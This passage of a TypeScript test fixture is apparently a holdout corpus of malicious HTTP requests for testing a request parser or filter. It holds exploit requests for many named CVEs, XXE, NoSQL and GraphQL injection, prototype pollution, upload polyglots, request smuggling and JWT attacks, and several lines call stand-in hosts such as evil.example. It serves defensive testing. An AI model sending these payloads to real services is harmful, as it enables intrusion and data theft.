// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the attacks have it
import { deflateRawSync } from 'node:zlib';
import {
  browserForm,
  browserJson,
  browserParts,
  client,
  clientForm,
  clientJson,
  get,
} from '../../support/clients.ts';
import type { HoldoutRequest } from '../../support/request.ts';

const b64url = (value: unknown): string =>
  Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
const token = (head: object, claims: object = { sub: '1' }): HoldoutRequest =>
  client('GET', '/me', ['Authorization', `Bearer ${b64url(head)}.${b64url(claims)}.c2ln`]);
const upload = (file: string, type: string, content: string | Buffer): HoldoutRequest =>
  browserParts('/upload', [{ name: 'file', file, type, content }]);
const raw = (target: string, ...headers: string[]): HoldoutRequest => client('GET', target, headers);
const xml = (target: string, body: string | Buffer, type = 'text/xml'): HoldoutRequest =>
  client('POST', target, ['Content-Type', type], body);
const parts = (body: string, type = 'multipart/form-data; boundary=x'): HoldoutRequest =>
  client('POST', '/up', ['Content-Type', type], body);
function zip(name: string, content: string, packed = true): Buffer {
  const data = packed ? deflateRawSync(Buffer.from(content)) : Buffer.from(content);
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(20, 4);
  head.writeUInt16LE(packed ? 8 : 0, 8);
  head.writeUInt32LE(data.length, 18);
  head.writeUInt32LE(content.length, 22);
  head.writeUInt16LE(name.length, 26);
  return Buffer.concat([head, Buffer.from(name), data]);
}
const XXE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>';

/** Of the set `parsers`: what has one place only; written before any rule was tried on it. */
export const PARSER_WHOLE: Readonly<Record<string, HoldoutRequest>> = {
  'CVE: OFBiz, a view that overrides': clientForm('/webtools/control/forgotPassword;/ProgramExport', {
    groovyProgram: 'throw new Exception("id".execute().text);',
  }),
  'CVE: Confluence, a template': clientForm('/template/aui/text-inline.vm', {
    label:
      '\\u0027+#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet(\\u0027ognl\\u0027).findValue(#parameters.x,{})+\\u0027',
    x: '(new freemarker.template.utility.Execute()).exec({"id"})',
  }),
  'CVE: PHP-CGI, a soft hyphen': client(
    'POST',
    '/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
    ['Content-Type', 'text/plain'],
    '<?php system("id");?>',
  ),
  'CVE: Ivanti, a command': raw('/api/v1/totp/user-backup-code/../../license/keys-status/%3Bid'),
  'CVE: PAN-OS, a cookie': raw(
    '/global-protect/login.esp',
    'Cookie',
    'SESSID=./../../../opt/panlogs/tmp/device_telemetry/hour/a`id`',
  ),
  'CVE: TeamCity, a token': client(
    'POST',
    '/hax?jsp=/app/rest/users/id:1/tokens/x;.jsp',
    ['Content-Type', 'application/json'],
    '{}',
  ),
  'CVE: ScreenConnect, a path behind a page': raw('/SetupWizard.aspx/x'),
  'CVE: Jenkins, a file by CLI': client(
    'POST',
    '/cli?remoting=false',
    ['Session', 'a', 'Side', 'upload'],
    Buffer.from('\0\0\x00\x06\0\0\x04help\0\0\0\x0e\0\0\x0c@/etc/passwd', 'latin1'),
  ),
  'CVE: GeoServer, a property': raw(
    "/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=a:b&valueReference=exec(java.lang.Runtime.getRuntime(),'id')",
  ),
  'CVE: Zimbra, postjournal': client(
    'POST',
    '/service/soap',
    ['Content-Type', 'text/xml'],
    '<a><to>"a$(curl${IFS}203.0.113.7)"@x.example</to></a>',
  ),
  'CVE: Roundcube, a name of a file': client(
    'POST',
    '/?_task=settings&_remote=1&_from=edit-!x&_id=&_uploadid=1&_action=upload',
    ['Content-Type', 'multipart/form-data; boundary=x'],
    '--x\r\nContent-Disposition: form-data; name="_file[]"; filename="x|O:16:\\"Crypt_GPG_Engine\\":1:{S:26:\\"\\00Crypt_GPG_Engine\\00_gpgconf\\";S:2:\\"id\\";}"\r\nContent-Type: image/png\r\n\r\nx\r\n--x--\r\n',
  ),
  'CVE: Tomcat, a file by pieces': client(
    'PUT',
    '/a/session',
    ['Content-Range', 'bytes 0-5/100'],
    Buffer.from('aced00057372', 'hex'),
  ),
  'CVE: Next, a middleware passed by': raw(
    '/admin',
    'x-middleware-subrequest',
    'src/middleware:src/middleware:src/middleware:src/middleware:src/middleware',
  ),
  'CVE: React, a chunk that runs': browserParts(
    '/',
    [
      {
        name: '0',
        content:
          '{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B1337\\"}","_response":{"_prefix":"process.mainModule.require(\'child_process\').execSync(\'id\');","_chunks":"$Q2","_formData":{"get":"$1:constructor:constructor"}}}',
      },
      { name: '1', content: '"$@0"' },
    ],
    'Next-Action',
    'x',
  ),
  'CVE: React, a name of an export': browserParts('/', [
    { name: '$ACTION_REF_0', content: '' },
    { name: '$ACTION_0:0', content: '{"id":"child_process#execSync","bound":["id"]}' },
  ]),
  'CVE: React, constructor as an export': browserParts('/', [
    { name: '$ACTION_REF_0', content: '' },
    {
      name: '$ACTION_0:0',
      content:
        '{"id":"vm#runInThisContext","bound":["global.process.mainModule.require(\\"child_process\\").execSync(\\"id\\")"]}',
    },
  ]),
  'CVE: Vite, a raw file': raw('/@fs/etc/passwd?raw??'),
  'CVE: Vite, an import': raw('/@fs/etc/passwd?import&raw??'),
  'CVE: Langflow, a default': clientJson('/api/v1/validate/code', {
    code: "def f(x=exec(\"__import__('os').system('id')\")):\n  pass",
  }),
  'CVE: SharePoint, a web part': clientForm(
    '/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx',
    {
      MSOTlPn_DWP:
        '<%@ Register Tagprefix="s" Namespace="Microsoft.PerformancePoint.Scorecards" %><s:ExcelDataSet CompressedDataTable="H4sIAAAA" DataTable-CaseSensitive="false" runat="server"/>',
    },
    'Referer',
    '/_layouts/SignOut.aspx',
  ),
  'CVE: FortiWeb, SQL in a bearer': raw(
    '/api/fabric/device/status',
    'Authorization',
    "Bearer ';select/**/1/**/into/**/outfile/**/'/tmp/a'#",
  ),
  'CVE: FortiWeb, a climb to CGI': client(
    'POST',
    '/api/v2.0/cmdb/system/admin%3F/../../../../../cgi-bin/fwbcgi',
    ['CGIINFO', b64url({ username: 'admin' }), 'Content-Type', 'application/json'],
    '{}',
  ),
  'CVE: Wing FTP, Lua behind a NUL': clientForm('/loginok.html', [
    ['username', 'anonymous\0]]\nlocal h = io.popen("id")\nprint(h:read("*a"))\n--'],
    ['password', ''],
  ]),
  'CVE: CrushFTP, a peer': raw(
    '/WebInterface/function/?command=getUserList',
    'Authorization',
    'AWS4-HMAC-SHA256 Credential=crushadmin/',
    'Cookie',
    'CrushAuth=1743113839851_a; currentAuth=abcd',
  ),
  'CVE: Erlang, an SSH of the gateway': clientJson('/api/run', { cmd: 'os:cmd("id").' }),
  'CVE: Livewire, an update of a type': browserJson('/livewire/update', {
    components: [
      {
        snapshot:
          '{"data":{"a":[{"x":["O:27:\\"GuzzleHttp\\\\Psr7\\\\FnStream\\":1:{s:9:\\"_fn_close\\";s:7:\\"phpinfo\\";}",{"s":"str"}]},{"s":"clctn","class":"Illuminate\\\\Queue\\\\Jobs\\\\RedisJob"}]}}',
        updates: {},
        calls: [],
      },
    ],
  }),
  'CVE: Craft, a yii object': clientJson('/index.php?p=admin/actions/assets/generate-transform', {
    assetId: 1,
    handle: {
      'as session': {
        class: 'craft\\behaviors\\FieldLayoutBehavior',
        __class: 'yii\\rbac\\PhpManager',
        '__construct()': [{ itemFile: '/tmp/sess_a' }],
      },
    },
  }),
  'CVE: Oracle EBS, a template': clientForm('/OA_HTML/SyncServlet', {
    x: '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:j="http://www.oracle.com/XSL/Transform/java/java.lang.Runtime"><xsl:template match="/"><xsl:value-of select="j:exec(j:getRuntime(),\'id\')"/></xsl:template></xsl:stylesheet>',
  }),
  'CVE: Commvault, a climb': clientForm('/commandcenter/deployWebpackage.do', {
    commcellName: '203.0.113.7',
    servicePack: '../../Reports/MetricsUpload/shell/',
    version: 'x',
  }),
  'CVE: Citrix, an empty login': client(
    'POST',
    '/p/u/doAuthentication.do',
    ['Content-Type', 'application/x-www-form-urlencoded', 'User-Agent', 'A'.repeat(2000)],
    'login',
  ),
  'CVE: Grafana, a redirect that climbs': raw(
    '/user/auth-tokens/rotate?redirectTo=/%5Cevil.example/%3f/../..',
  ),
  'CVE: Grafana, a file of SQL': clientJson('/api/ds/query?ds_type=__expr__', {
    queries: [{ type: 'sql', expression: "SELECT * FROM read_csv_auto('/etc/passwd')" }],
  }),
  'CVE: ingress, an annotation': clientJson('/validate', {
    request: {
      object: {
        metadata: {
          annotations: {
            'nginx.ingress.kubernetes.io/auth-url': 'http://x/#;}}}\n\nssl_engine ../../../../proc/9/fd/3',
          },
        },
      },
    },
  }),
  'CVE: Spring, routes of a gateway': clientJson('/actuator/gateway/routes/a', {
    id: 'a',
    filters: [
      {
        name: 'AddResponseHeader',
        args: {
          name: 'x',
          value:
            '#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()))}',
        },
      },
    ],
    uri: 'http://x',
  }),
  'CVE: Spring, a function': client(
    'POST',
    '/functionRouter',
    ['spring.cloud.function.routing-expression', 'T(java.lang.Runtime).getRuntime().exec("id")'],
    'x',
  ),
  'CVE: Struts, a name that climbs': browserParts('/upload.action', [
    { name: 'Upload', file: 'a.txt', type: 'text/plain', content: 'x' },
    { name: 'uploadFileName', content: '../../a.jsp' },
  ]),
  'CVE: Ollama, a digest': clientJson('/api/pull', { model: 'x', digest: '../../../../../../etc/shadow' }),
  'CVE: ComfyUI, a view': raw('/view?filename=../../../../etc/passwd&type=input'),
  'CVE: gradio, a file': raw('/file=/etc/passwd'),
  'CVE: MLflow, a fragment': clientJson('/ajax-api/2.0/mlflow/experiments/create', {
    name: 'x',
    artifact_location: 'http:///#/../../../../../../etc/',
  }),
  'CVE: Metabase, a driver': clientJson('/api/setup/validate', {
    details: {
      engine: 'h2',
      details: {
        db: "zip:/app/metabase.jar!/sample-database.db;MODE=MSSQLServer;TRACE_LEVEL_SYSTEM_OUT=1\\;CREATE TRIGGER A BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\njava.lang.Runtime.getRuntime().exec('id')\n$$",
      },
    },
  }),
  'CVE: a driver of PostgreSQL': clientJson('/api/connections', {
    url: 'jdbc:postgresql://x/?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil.example/a.xml',
  }),
  'CVE: a driver of H2': clientJson('/api/connections', {
    url: "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/a.sql'",
  }),
  'CVE: a driver of MySQL': clientJson('/api/connections', {
    url: 'jdbc:mysql://evil.example/x?allowLoadLocalInfile=true&autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor',
  }),
  'CVE: a pickle of a model': upload(
    'm.pkl',
    'application/octet-stream',
    Buffer.from(
      '\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.',
      'latin1',
    ),
  ),
  'CVE: WordPress, a query of a plugin': get('/wp-admin/admin-ajax.php', {
    action: 'ays_sccp_results_export_file',
    'sccp_id[]': '3)*(SELECT+1+FROM+(SELECT+SLEEP(9))x)-- -',
    type: 'json',
  }),
  'CVE: WordPress, a cookie of a cache': raw(
    '/wp-json/wp/v2/users',
    'Cookie',
    'litespeed_role=1; litespeed_hash=AAAAAA',
  ),
  'CVE: WordPress, PHP in a theme': clientJson('/wp-json/bricks/v1/render_element', {
    postId: '1',
    nonce: 'a',
    element: { name: 'code', settings: { executeCode: 'true', code: '<?php throw new Exception(`id`);?>' } },
  }),
  'CVE: Cacti, a poller': raw(
    '/remote_agent.php?action=polldata&local_data_ids[0]=1&host_id=1&poller_id=`id`',
    'X-Forwarded-For',
    '127.0.0.1',
  ),
  'CVE: a router, ping': clientForm('/cgi-bin/luci/;stok=/locale?form=country', {
    operation: 'write',
    country: '$(id>/tmp/a)',
  }),
  'CVE: a camera, a language': client(
    'PUT',
    '/SDK/webLanguage',
    ['Content-Type', 'application/xml'],
    '<?xml version="1.0"?><language>$(id>webLib/x)</language>',
  ),
  'CVE: D-Link, base64 of a command': raw(
    '/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=',
  ),
  'CVE: Zyxel, a command': clientJson('/ztp/cgi-bin/handler', {
    command: 'setWanPortSt',
    proto: 'dhcp',
    port: '4',
    vlan_tagged: '1',
    mtu: '; id;',
  }),
  'CVE: Apache, a handler by %3f': raw('/a/etc/passwd%3fooo.php'),
  'CVE: Apache, a climb in a CGI': client(
    'POST',
    '/cgi-bin/.%2e/%2e%2e/%2e%2e/bin/sh',
    ['Content-Type', 'text/plain'],
    'echo; id',
  ),
  'CVE: HTTP.sys, a range': raw('/', 'Range', 'bytes=0-18446744073709551615'),
  'CVE: Nagios, an image': raw('/nagiosxi/includes/components/x.php?a=%24%28id%29'),
  'CVE: Cisco, a climb to Lua': client(
    'POST',
    '/%2577eb%2575i_%2577sma_Http',
    ['Content-Type', 'text/xml'],
    '<request><execCLI><cmd>show version</cmd></execCLI></request>',
  ),
  'CVE: Cleo, a file': client(
    'POST',
    '/Synchronization',
    ['VLSync', 'Multipart;l=0,Acknowledge'],
    '../../../autorun/healthcheck.txt <?xml version="1.0"?><Host><Commands>SYSTEM cmd.exe /c "powershell -NonInteractive -EncodedCommand SQBFAFgA"</Commands></Host>',
  ),
  'CVE: BeyondTrust, a quote': raw("/nw?gskey=%c0'%3b%5c!+id", 'Upgrade', 'websocket'),
  'CVE: XWiki, a feed': raw(
    '/bin/get/Main/SolrSearch?media=rss&text=%7D%7D%7D%7B%7Basync%20async%3Dfalse%7D%7D%7B%7Bgroovy%7D%7Dprintln(%22id%22.execute().text)%7B%7B%2Fgroovy%7D%7D%7B%7B%2Fasync%7D%7D',
  ),
  'CVE: n8n, an expression': clientJson('/rest/workflows', {
    nodes: [
      {
        parameters: {
          v: "={{ (function(){ return this.process.mainModule.require('child_process').execSync('id').toString() })() }}",
        },
      },
    ],
  }),
  'CVE: Sitecore, a markup': clientForm('/-/xaml/Sitecore.Shell.Xaml.WebControl', {
    __ISEVENT: '1',
    __SOURCE: 'a',
    __PARAMETERS: 'AddToCache("a","<html><script>alert(5)</script></html>")',
  }),
  'proto: a path in brackets': get('/a', { '__proto__[isAdmin]': '1' }),
  'proto: a constructor in brackets': get('/a', { 'constructor[prototype][isAdmin]': '1' }),
  'proto: in points': get('/a', { '__proto__.isAdmin': '1' }),
  'proto: in a form': browserForm('/a', { 'user[__proto__][role]': 'admin' }),
  'proto: in JSON, deep': browserJson('/a', {
    a: [{ b: { constructor: { prototype: { role: 'admin' } } } }],
  }),
  'proto: in JSON itself': client(
    'POST',
    '/a',
    ['Content-Type', 'application/json'],
    '{"a":{"\\u005f\\u005fproto__":{"x":1}}}',
  ),
  'proto: in a path of a patch': client(
    'PATCH',
    '/a',
    ['Content-Type', 'application/json-patch+json'],
    '[{"op":"add","path":"/__proto__/role","value":"admin"}]',
  ),
  'proto: in devalue': client(
    'POST',
    '/a',
    ['Content-Type', 'application/json'],
    '[{"__proto__":1},{"polluted":2},true]',
  ),
  'proto: in YAML': client(
    'POST',
    '/a',
    ['Content-Type', 'application/yaml'],
    'a:\n  __proto__:\n    admin: true\n',
  ),
  'NoSQL: a log-in by brackets': browserForm('/login', { 'user[$ne]': 'x', 'password[$ne]': 'x' }),
  'NoSQL: a log-in by JSON': browserJson('/login', { username: { $gt: '' }, password: { $gt: '' } }),
  'NoSQL: a bare operator for a name': browserJson('/api/users', { email: { $ne: null } }),
  'NoSQL: a token by pattern': browserJson('/reset', { token: { $regex: '^a' } }),
  'NoSQL: an operator of code': browserJson('/find', { $where: 'this.a == this.b' }),
  'NoSQL: an expression of code': browserJson('/find', {
    $expr: { $function: { body: 'function(){return 1}', args: [], lang: 'js' } },
  }),
  'NoSQL: a stage that writes': browserJson('/aggregate', [{ $match: {} }, { $out: 'users' }]),
  'NoSQL: a stage that joins': browserJson('/aggregate', [
    { $lookup: { from: 'users', localField: 'a', foreignField: 'b', as: 'c' } },
  ]),
  'NoSQL: a key with a semicolon': get('/a', { 'id[$regex]': '.*', 'id[$options]': 'i' }),
  'NoSQL: an operator of Sequelize': get('/a', { 'where[$or][0][password][$like]': 'a%' }),
  'NoSQL: a filter of Prisma': browserJson('/reset', { resetToken: { not: '' }, password: 'x' }),
  'GraphQL: aliases of a log-in': browserJson('/graphql', {
    query: `mutation{${Array.from({ length: 120 }, (_, n) => `a${n}:login(u:"admin",p:"${n}"){t}`).join(' ')}}`,
  }),
  'GraphQL: a batch of log-ins': browserJson(
    '/graphql',
    Array.from({ length: 150 }, (_, n) => ({ query: `mutation{login(u:"admin",p:"p${n}"){t}}` })),
  ),
  'GraphQL: circles': browserJson('/graphql', {
    query: `{${'a{posts{author'.repeat(40)}{id}${'}}'.repeat(40)}}`,
  }),
  'GraphQL: fragments in a circle': browserJson('/graphql', {
    query: '{...a} fragment a on Query{...b} fragment b on Query{...a}',
  }),
  'GraphQL: directives': browserJson('/graphql', { query: `{__typename ${'@a'.repeat(500)}}` }),
  'GraphQL: SQL in an argument': browserJson('/graphql', {
    query: '{user(id:"1\' union select 1,password from users-- "){name}}',
  }),
  'GraphQL: a block string': browserJson('/graphql', { query: '{user(id:"""1\' or 1=1-- """){name}}' }),
  'GraphQL: by a form': browserForm('/graphql', { query: 'mutation{run(cmd:"; cat /etc/passwd"){out}}' }),
  'XXE: a document': xml('/a', `<?xml version="1.0"?>${XXE}<a>&x;</a>`),
  'XXE: from elsewhere': xml('/a', '<!DOCTYPE a [<!ENTITY % d SYSTEM "http://evil.example/a.dtd">%d;]><a/>'),
  'XXE: PUBLIC': xml('/a', '<!DOCTYPE a PUBLIC "x" "http://evil.example/a.dtd"><a/>'),
  'XXE: in UTF-16': xml(
    '/a',
    Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?>${XXE}<a>&x;</a>`, 'utf16le'),
  ),
  'XXE: in UTF-7': xml(
    '/a',
    '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AFsAPAAh-ENTITY x SYSTEM +ACI-file:///etc/passwd+ACIAPgBdAD4-<a>+ACY-x+ADs-</a>',
  ),
  'XXE: in EBCDIC': xml('/a', Buffer.from('4c6fa7949340a58599a28996957e7ff14bf07f408595839684899587', 'hex')),
  'XXE: in JSON that is XML': client('POST', '/a', ['Content-Type', 'application/json'], `${XXE}<a>&x;</a>`),
  'XXE: in SOAP': xml(
    '/ws',
    `<?xml version="1.0"?>${XXE}<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><a>&x;</a></s:Body></s:Envelope>`,
  ),
  'XXE: in SAML': browserForm('/acs', {
    SAMLResponse: Buffer.from(`<?xml version="1.0"?>${XXE}<samlp:Response>&x;</samlp:Response>`).toString(
      'base64',
    ),
  }),
  'XXE: in SVG': upload('a.svg', 'image/svg+xml', `${XXE}<svg><text>&x;</text></svg>`),
  'XXE: in DOCX': upload(
    'a.docx',
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    zip('word/document.xml', `${XXE}<w:document>&x;</w:document>`),
  ),
  'XXE: in XLSX': upload(
    'a.xlsx',
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    zip('xl/workbook.xml', `${XXE}<workbook>&x;</workbook>`),
  ),
  'XXE: in XLSX, stored': upload(
    'a.xlsx',
    'application/zip',
    zip('xl/workbook.xml', `${XXE}<workbook>&x;</workbook>`, false),
  ),
  'XXE: in GPX': upload('a.gpx', 'application/gpx+xml', `<?xml version="1.0"?>${XXE}<gpx>&x;</gpx>`),
  'XXE: in XMP of a PDF': upload(
    'a.pdf',
    'application/pdf',
    `%PDF-1.4\n1 0 obj<</Type/Metadata/Subtype/XML>>stream\n${XXE}<x:xmpmeta>&x;</x:xmpmeta>\nendstream`,
  ),
  'XXE: a stylesheet': xml('/a', '<?xml-stylesheet type="text/xsl" href="http://evil.example/a.xsl"?><a/>'),
  'XXE: laughs': xml(
    '/a',
    '<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><a>&d;</a>',
  ),
  'XML: PHP in an instruction': xml('/a', '<?xml version="1.0"?><a><?php system("id"); ?></a>'),
  'XML: PHP in an attribute': xml('/a', '<a b="&lt;?php system(&apos;id&apos;);?&gt;"/>'),
  'SAML: a comment in a name': browserForm('/acs', {
    SAMLResponse: Buffer.from(
      '<samlp:Response><saml:Assertion><saml:NameID>admin@x.example<!---->.evil.example</saml:NameID></saml:Assertion></samlp:Response>',
    ).toString('base64'),
  }),
  'archive: a climb': upload('a.zip', 'application/zip', zip('../../../var/www/a.php', 'x', false)),
  'archive: a climb of Windows': upload('a.zip', 'application/zip', zip('..\\..\\a.aspx', 'x', false)),
  'archive: tar that climbs': upload(
    'a.tar',
    'application/x-tar',
    `${'../../../etc/cron.d/a'.padEnd(100, '\0')}0000644\0`.padEnd(257, '\0') +
      'ustar\x0000'.padEnd(255, '\0'),
  ),
  'file: a polyglot of GIF and JS': upload('a.gif', 'image/gif', 'GIF89a/*\0\0*/=1;alert(5);'),
  'file: a polyglot of JPEG and PHP': upload(
    'a.jpg',
    'image/jpeg',
    Buffer.from('\xff\xd8\xff\xe0\0\x10JFIF\0\x01<?=`$_GET[0]`?>\xff\xd9', 'latin1'),
  ),
  'file: a polyglot of PDF and HTML': upload(
    'a.pdf',
    'application/pdf',
    '%PDF-1.4\n<html><script>alert(5)</script></html>',
  ),
  'file: a page of ASP': upload('a.asp;.jpg', 'image/jpeg', 'x'),
  'file: a page of ASP.NET': upload('a.ashx', 'text/plain', '<%@ WebHandler Language="C#" Class="A" %>'),
  'file: a page of JSPX': upload(
    'a.jspx',
    'text/xml',
    '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page"><jsp:scriptlet>Runtime.getRuntime().exec("id");</jsp:scriptlet></jsp:root>',
  ),
  'file: user settings of PHP': upload('.user.ini', 'text/plain', 'auto_prepend_file=a.jpg'),
  'file: a name with a NUL': upload('a.php%00.jpg', 'image/jpeg', 'x'),
  'file: a name with a colon': upload('a.php::$DATA', 'image/jpeg', 'x'),
  'file: a link file': upload(
    'a.url',
    'text/plain',
    '[InternetShortcut]\nURL=file://evil.example/a\nIconFile=\\\\evil.example\\a.ico',
  ),
  'file: CSV that calls': upload('a.csv', 'text/csv', "name,x\na,=cmd|' /C calc'!A0\n"),
  'file: EPS': upload(
    'a.eps',
    'application/postscript',
    '%!PS\nuserdict /setpagedevice undef\n(%pipe%id) (r) file',
  ),
  'file: LaTeX': upload('a.tex', 'text/x-tex', '\\immediate\\write18{id}\\input{/etc/passwd}'),
  'file: m3u8 that reads': upload(
    'a.m3u8',
    'application/x-mpegurl',
    '#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:http://evil.example/h|file:///etc/passwd\n',
  ),
  'file: a settings file of Git': upload(
    'config',
    'text/plain',
    '[core]\n\tfsmonitor = "id"\n\tsshCommand = id\n',
  ),
  'parts: a name twice': parts(
    '--x\r\nContent-Disposition: form-data; name="a"; name="b"\r\n\r\n\' or 1=1-- \r\n--x--\r\n',
  ),
  'parts: filename in stars': parts(
    '--x\r\nContent-Disposition: form-data; name="f"; filename="a.png"; filename*=UTF-8\'\'a.php\r\n\r\nx\r\n--x--\r\n',
  ),
  'parts: a boundary twice': parts(
    '--y\r\nContent-Disposition: form-data; name="a"\r\n\r\n\' or 1=1-- \r\n--y--\r\n',
    'multipart/form-data; boundary=x; boundary=y',
  ),
  'parts: a boundary by RFC 2231': parts(
    '--y\r\nContent-Disposition: form-data; name="a"\r\n\r\n\' or 1=1-- \r\n--y--\r\n',
    "multipart/form-data; boundary=x; boundary*=utf-8''y",
  ),
  'parts: in base64': parts(
    `--x\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from("' or 1=1-- ").toString('base64')}\r\n--x--\r\n`,
  ),
  'parts: in quoted-printable': parts(
    '--x\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=27 or 1=3D1-- \r\n--x--\r\n',
  ),
  'parts: in UTF-7': parts(
    '--x\r\nContent-Disposition: form-data; name="a"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(5)+ADw-/script+AD4-\r\n--x--\r\n',
  ),
  'parts: by _charset_': parts(
    '--x\r\nContent-Disposition: form-data; name="_charset_"\r\n\r\nutf-7\r\n--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n+ACc- or 1=1-- \r\n--x--\r\n',
  ),
  'charset: a form in UTF-16': client(
    'POST',
    '/a',
    ['Content-Type', 'application/x-www-form-urlencoded; charset=utf-16le'],
    Buffer.from("a=' or 1=1-- ", 'utf16le'),
  ),
  'charset: a form in IBM500': client(
    'POST',
    '/a',
    ['Content-Type', 'application/x-www-form-urlencoded; charset=ibm500'],
    '%81=%7d%40%96%99%40%f1%7e%f1%60%60',
  ),
  'charset: JSON in UTF-32': client(
    'POST',
    '/a',
    ['Content-Type', 'application/json; charset=utf-32'],
    Buffer.concat([...`{"a":"' or 1=1-- "}`].map((sign) => Buffer.from([sign.charCodeAt(0), 0, 0, 0]))),
  ),
  'charset: Shift_JIS and a backslash': client(
    'POST',
    '/a',
    ['Content-Type', 'application/x-www-form-urlencoded; charset=shift_jis'],
    'a=%95%27+or+1%3D1--+',
  ),
  'charset: GBK and a quote': get('/a?id=1%bf%27%20or%201=1--%20'),
  'smuggling: a body within': client(
    'POST',
    '/a',
    ['Content-Type', 'text/plain'],
    '0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\nX: x',
  ),
  'smuggling: a header of an old proxy': raw('/', 'Transfer-Encoding', 'chunked, identity'),
  'smuggling: an obfuscated header': client('POST', '/a', ['Transfer-Encoding', 'xchunked'], '0\r\n\r\n'),
  'smuggling: h2c': raw(
    '/',
    'Connection',
    'Upgrade, HTTP2-Settings',
    'Upgrade',
    'h2c',
    'HTTP2-Settings',
    'AAMAAABkAARAAAAAAAIAAAAA',
  ),
  'cache: a file behind a semicolon': raw('/account/settings;a.css'),
  'cache: a file behind a line end': raw('/account/settings%0a.css'),
  'cache: a host that is forwarded': raw('/', 'X-Forwarded-Host', 'evil.example"><script>alert(5)</script>'),
  'cache: a scheme': raw(
    '/',
    'X-Forwarded-Scheme',
    'nothttps',
    'X-Forwarded-Host',
    'a."><img src=x onerror=alert(5)>',
  ),
  'host: an address within': raw('/', 'X-Host', '169.254.169.254'),
  'host: absolute elsewhere': raw('http://169.254.169.254/latest/meta-data/'),
  'host: an at': raw('@169.254.169.254/latest/'),
  'header: SQL in a host that is forwarded': raw('/', 'X-Forwarded-Server', "a' or sleep(9)-- "),
  'header: JNDI in If-Modified-Since': raw('/', 'If-Modified-Since', '${jndi:ldap://evil.example/a}'),
  'header: JNDI in a method': client('${jndi:ldap://evil.example/a}', '/', []),
  'header: shellshock': raw('/', 'Cookie', '() { :;}; /bin/id'),
  'header: a template in a name': raw('/', 'X-Api-Version', '#{7*7}${T(java.lang.Runtime)}'),
  'header: Basic with SQL': raw(
    '/',
    'Authorization',
    `Basic ${Buffer.from("admin' or '1'='1:x").toString('base64')}`,
  ),
  'header: Digest with SQL': raw(
    '/',
    'Authorization',
    'Digest username="admin\' or 1=1-- ", realm="a", uri="/"',
  ),
  'header: a path in X-Rewrite-URL': raw('/', 'X-Rewrite-URL', '/..;/admin'),
  'header: a method that overrides': raw('/', 'X-HTTP-Method-Override', "GET' or 1=1--"),
  'header: a range for a bomb': raw(
    '/',
    'Range',
    `bytes=${Array.from({ length: 300 }, (_, n) => `${n}-`).join(',')}`,
  ),
  'header: a proxy for CGI': raw('/cgi-bin/a', 'Proxy', 'http://evil.example:8080'),
  'header: X-Forwarded-Prefix that climbs': raw('/', 'X-Forwarded-Prefix', '/..;/..;/env'),
  'HTTP/2: a path in a pseudo header': raw('/a', ':path', "/?id=' or 1=1-- "),
  'HTTP/2: an authority': raw('/a', ':authority', "x' union select 1-- "),
  'token: none': token({ alg: 'none' }),
  'token: None in capitals': token({ alg: 'NoNe' }),
  'token: a key that is a pipe': token({ alg: 'HS256', kid: 'a|id' }),
  'token: a key that is SQL': token({ alg: 'HS256', kid: "x' union select 'a" }),
  'token: a key that climbs': token({ alg: 'HS256', kid: '../../../dev/null' }),
  'token: a key that is a command': token({ alg: 'HS256', kid: '$(id)' }),
  'token: an inner x5u': token({ alg: 'RS256', x5u: 'http://10.0.0.5/c.pem' }),
  'token: an inner jku': token({ alg: 'RS256', jku: 'http://169.254.169.254/k' }),
  'token: a file for jku': token({ alg: 'RS256', jku: 'file:///etc/passwd' }),
  'token: a jku behind an at': token({ alg: 'RS256', jku: 'https://shop.example@evil.example/jwks.json' }),
  'token: SQL in a claim': token({ alg: 'HS256' }, { sub: "1' or 1=1-- " }),
  'token: a script in a claim': token({ alg: 'HS256' }, { name: '<img src=x onerror=alert(5)>' }),
  'token: a header within crit': token({ alg: 'HS256', crit: ['http://x'], cty: 'text/xml' }, { x: XXE }),
  'OAuth: a redirect that climbs': get('/authorize', {
    client_id: 'a',
    redirect_uri: 'https://shop.example/cb/../../..//evil.example',
  }),
